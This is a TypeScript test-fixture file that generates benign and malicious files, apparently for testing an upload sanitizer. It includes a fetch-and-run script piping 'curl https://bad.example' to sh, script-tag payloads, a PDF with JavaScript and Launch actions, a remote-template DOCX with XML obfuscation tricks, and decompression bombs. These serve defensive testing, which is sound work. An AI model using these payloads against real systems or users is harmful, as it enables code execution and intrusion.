import { randomBytes } from 'node:crypto';
import { buffer } from 'node:stream/consumers';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import CFB from 'cfb';
import PdfKit from 'pdfkit';
import sharp from 'sharp';

/* Harmless and malicious files. Each is generated here, so that its content can be read here. */

const canvas = (width: number, height: number, background = '#4a7a5c') =>
  sharp({ create: { width, height, channels: 3, background } });

/** A picture as a phone takes it: rotated, with camera, location and a thumbnail in its EXIF. */
export const photo = (width = 1_200, height = 900) =>
  canvas(width, height)
    .withExif({
      IFD0: { Make: 'Tecno', Copyright: 'SECRET-IN-EXIF' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '6/1 27/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .jpeg({ quality: 90 })
    .toBuffer();

export const screenshot = (width = 1_080, height = 2_340) => canvas(width, height, '#ffffff').png().toBuffer();
export const webp = () => canvas(800, 600).webp().toBuffer();
/** A photo without its second half. */
export const truncatedPhoto = async () => {
  const whole = await noise(800, 600);
  return whole.subarray(0, Math.floor(whole.length / 2));
};
/** Random pixels: the largest possible file for its dimensions. */
export const noise = (width: number, height: number) =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 90 })
    .toBuffer();

/** A picture padded to an exact file size. */
export const padded = (file: Uint8Array, size: number) => Buffer.concat([file, Buffer.alloc(size - file.length)]);

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const tail = Buffer.alloc(4);
  tail.writeUInt32BE(crc32(body));
  return Buffer.concat([head, body, tail]);
};

/** A PNG of a few kilobytes that declares these dimensions, and unpacks to them. */
export function hugePng(width = 40_000, height = 40_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(1 + Math.ceil(width / 8)));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const svg = () =>
  Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
export const script = () => Buffer.from('#!/bin/sh\ncurl https://bad.example | sh\n');
export const html = () => Buffer.from('<!doctype html><script>alert(1)</script>');

export async function pdf(pages = 2): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let page = 1; page <= pages; page += 1) {
    document.addPage().drawText(`Certificate, page ${page}`, { x: 60, y: 700, size: 24, font });
  }
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** A filled-in form with a link below it. */
export async function pdfForm(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  const name = document.getForm().createTextField('name');
  name.setText('Ngozi Okafor');
  name.addToPage(page, { x: 60, y: 700, width: 300, height: 40 });
  document.getForm().createCheckBox('agreed').addToPage(page, { x: 60, y: 640 });
  const action = { Type: 'Action', S: 'URI', URI: PDFString.of('https://good.example') };
  const link = { Type: 'Annot', Subtype: 'Link', Rect: [60, 600, 200, 620], A: action };
  page.node.addAnnot(document.context.register(document.context.obj(link)));
  return Buffer.from(await document.save());
}

/** Contains every kind of active content, in every place that a PDF has for it. */
export async function activePdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const { context, catalog } = document;
  const page = document.addPage();
  page.drawText('Read me', { x: 60, y: 700 });
  document.addJavaScript('opened', 'app.alert(1)');
  await document.attach(Buffer.from('MZ payload'), 'payload.exe', { mimeType: 'application/octet-stream' });
  const run = (S: string, more = {}) => context.obj({ Type: 'Action', S, ...more });
  const js = run('JavaScript', { JS: PDFString.of('app.alert(2)') });
  const launch = run('Launch', { F: PDFString.of('calc.exe') });
  catalog.set(PDFName.of('OpenAction'), context.register(js));
  catalog.set(PDFName.of('AA'), context.obj({ WC: launch }));
  page.node.set(PDFName.of('AA'), context.obj({ O: launch }));
  const annotation = (Subtype: string, more: Record<string, unknown>) =>
    context.register(context.obj({ Type: 'Annot', Subtype, Rect: [10, 10, 90, 90], ...more } as never));
  const appearance = context.register(
    context.stream('0 0 10 10 re f', {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 10, 10],
      AA: { E: js },
    } as never),
  );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      annotation('Link', { A: launch }),
      annotation('Widget', { AP: { N: appearance }, A: js, AA: { K: js }, FT: 'Tx', MK: { RI: js } }),
      annotation('RichMedia', { RichMediaContent: {} }),
      annotation('Screen', { A: run('Rendition') }),
      annotation('FileAttachment', { FS: { Type: 'Filespec', F: PDFString.of('a.exe') } }),
      annotation('Stamp', { AP: { N: appearance }, A: run('SubmitForm', { F: PDFString.of('https://bad.example') }) }),
    ]),
  );
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** The names of active content, as found in a PDF with uncompressed objects. */
export const acts =
  /\/(JavaScript|JS|Launch|OpenAction|AA|EmbeddedFiles?|Filespec|RichMedia|Rendition|SubmitForm|XFA)\b/;

export async function lockedPdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText('Locked', { x: 60, y: 700 });
  document.encrypt({ userPassword: 'secret', ownerPassword: 'owner', permissions: {} });
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** Opens without a password; its owner has restricted what readers allow. Each version encrypts differently. */
export function restrictedPdf(pdfVersion: '1.3' | '1.4' | '1.6' | '1.7ext3'): Promise<Buffer> {
  const document = new PdfKit({ pdfVersion, ownerPassword: 'owner', permissions: { copying: false } });
  document.fontSize(24).text('A certificate').end();
  return buffer(document);
}

/** A page in a browser and a document in a reader: HTML before the PDF, and HTML in a comment of one. */
export const htmlBeforePdf = async () => Buffer.concat([html(), Buffer.from('\n'), await pdf(1)]);
export const htmlInsidePdf = async () => {
  const file = await pdf(1);
  const line = file.indexOf('\n') + 1;
  return Buffer.concat([file.subarray(0, line), Buffer.from(`%${html()}\n`), file.subarray(line)]);
};

export interface Part {
  readonly name: string;
  readonly content: Uint8Array;
  /** The size that the directory declares; absent: the true one. */
  readonly saysSize?: number;
}

/** Raw ZIP bytes, because libraries do not write false sizes. */
export function zip(parts: readonly Part[]): Buffer {
  const local: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, content, saysSize = content.length } of parts) {
    const packed = deflateRawSync(content, { level: 9 });
    const title = Buffer.from(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(content), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(saysSize, 18);
    common.writeUInt16LE(title.length, 22);
    local.push(Buffer.from('PK\x03\x04', 'latin1'), common, title, packed);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(offset, 10);
    directory.push(Buffer.from('PK\x01\x02\x14\x00', 'latin1'), common, place, title);
    offset += 4 + common.length + title.length + packed.length;
  }
  const index = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(parts.length, 4);
  end.writeUInt16LE(parts.length, 6);
  end.writeUInt32LE(index.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...local, index, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

const contentTypes =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const emptyDocument = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>';

/** A Word document with further parts. */
export const docx = (...more: readonly Part[]) =>
  zip([
    { name: '[Content_Types].xml', content: Buffer.from(contentTypes) },
    { name: 'word/document.xml', content: Buffer.from(emptyDocument) },
    ...more,
  ]);

/** Slightly more than a document may unpack to. */
export const bombDocx = () => docx({ name: 'word/media/a.bin.xml', content: Buffer.alloc(101 * 1024 * 1024) });
/** Declares an unpacked size of one kilobyte. */
export const lyingDocx = () => docx({ name: 'word/media/a.xml', content: Buffer.alloc(1024 * 1024), saysSize: 1_024 });
export const macroDocx = () => docx({ name: 'word/vbaProject.bin', content: Buffer.from('macro') });
const template = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const relations = (relation: string) => Buffer.from(`<Relationships>${relation}</Relationships>`);
const fetched = relations(
  `<Relationship Id="r1" Type="${template}" Target="https://bad.example/t.dotm" TargetMode="External"/>`,
);
export const fetchingDocx = (content: Buffer = fetched) => docx({ name: 'word/_rels/settings.xml.rels', content });
/** The same reference in other notations of XML, by the trick used. */
export const hiddenReferences: readonly (readonly [string, Buffer])[] = [
  [
    'a bracket in the address',
    relations(`<Relationship Type="${template}" Target="https://bad.example/?>" TargetMode="External"/>`),
  ],
  [
    'a letter as its number',
    relations(`<Relationship Type="${template}" Target="https://bad.example" TargetMode="&#69;xternal"/>`),
  ],
  [
    'a prefix',
    Buffer.from(
      `<p:Relationships xmlns:p="p"><p:Relationship Type="${template}" Target="https://bad.example" TargetMode="External"/></p:Relationships>`,
    ),
  ],
  [
    'an entity',
    Buffer.from(
      `<!DOCTYPE r [<!ENTITY e "External">]><Relationships><Relationship Type="${template}" TargetMode="&e;"/></Relationships>`,
    ),
  ],
  ['two bytes a letter', Buffer.from(`\uFEFF${fetched.toString()}`, 'utf16le')],
];
export const linkingDocx = () =>
  docx({
    name: 'word/_rels/document.xml.rels',
    content: Buffer.from(
      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://good.example" TargetMode="External"/></Relationships>',
    ),
  });
/** A document as Word wrote it before 2007: folders and streams in one file, by their paths. */
export function doc(more: Readonly<Record<string, Uint8Array>> = {}, text = 'Training timetable\r'): Buffer {
  const container = CFB.utils.cfb_new();
  const head = Buffer.alloc(1_536);
  head.writeUInt16LE(0xa5ec, 0);
  const content = Buffer.concat([head, Buffer.from(text, 'latin1'), Buffer.alloc(4_096)]);
  const parts = { WordDocument: content, '1Table': Buffer.alloc(4_096), '\u0005SummaryInformation': Buffer.alloc(64) };
  for (const [path, bytes] of Object.entries({ ...parts, ...more })) CFB.utils.cfb_add(container, `/${path}`, bytes);
  return CFB.write(container, { type: 'buffer' }) as Buffer;
}
